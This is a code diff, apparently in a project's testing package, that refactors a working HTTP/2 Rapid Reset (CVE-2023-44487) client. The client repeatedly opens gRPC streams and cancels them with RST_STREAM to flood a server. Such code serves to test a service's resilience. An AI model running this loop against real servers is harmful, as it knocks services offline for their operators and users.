@@ -1,7 +1,4 @@
-"""One connection that opens streams and resets them in a loop (CVE-2023-44487).
-
-Frames are those of RFC 9113; headers are literals without indexing, RFC 7541 section 6.2.2.
-"""
+"""One connection that opens streams and resets them in a loop (CVE-2023-44487)."""
 
 import contextlib
 import select
@@ -9,7 +6,8 @@ import socket
 import struct
 import threading
 
-_HEADERS, _DATA, _RST_STREAM, _SETTINGS = 1, 0, 3, 4
+from paceline_scheduler.testing.raw_http2 import DATA, HEADERS, RST_STREAM, SETTINGS, call_headers, frame
+
 _END_HEADERS = 4
 _CANCEL = struct.pack(">I", 8)
 _EMPTY_MESSAGE = bytes(5)
@@ -22,17 +20,7 @@ class RapidReset:
     def __init__(self, host: str, port: int, method: str) -> None:
         self.num_streams = 0
         self._address = (host, port)
-        self._headers = b"".join(
-            _literal(name, value)
-            for name, value in (
-                (":method", "POST"),
-                (":scheme", "http"),
-                (":path", method),
-                (":authority", host),
-                ("content-type", "application/grpc"),
-                ("te", "trailers"),
-            )
-        )
+        self._headers = call_headers(host, method)
         self._stopped = threading.Event()
 
     def stop(self) -> None:
@@ -41,7 +29,7 @@ class RapidReset:
     def run(self) -> None:
         while not self._stopped.is_set():
             with contextlib.suppress(OSError), socket.create_connection(self._address, timeout=5.0) as connection:
-                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
+                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
                 self._attack(connection)
 
     def _attack(self, connection: socket.socket) -> None:
@@ -55,16 +43,8 @@ class RapidReset:
             _discard(connection)
 
     def _opened_and_reset(self, stream: int) -> bytes:
-        opened = _frame(_HEADERS, _END_HEADERS, stream, self._headers) + _frame(_DATA, 0, stream, _EMPTY_MESSAGE)
-        return opened + _frame(_RST_STREAM, 0, stream, _CANCEL)
-
-
-def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
-    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload
-
-
-def _literal(name: str, value: str) -> bytes:
-    return bytes((0, len(name))) + name.encode() + bytes((len(value),)) + value.encode()
+        opened = frame(HEADERS, _END_HEADERS, stream, self._headers) + frame(DATA, 0, stream, _EMPTY_MESSAGE)
+        return opened + frame(RST_STREAM, 0, stream, _CANCEL)
 
 
 def _discard(connection: socket.socket) -> None:
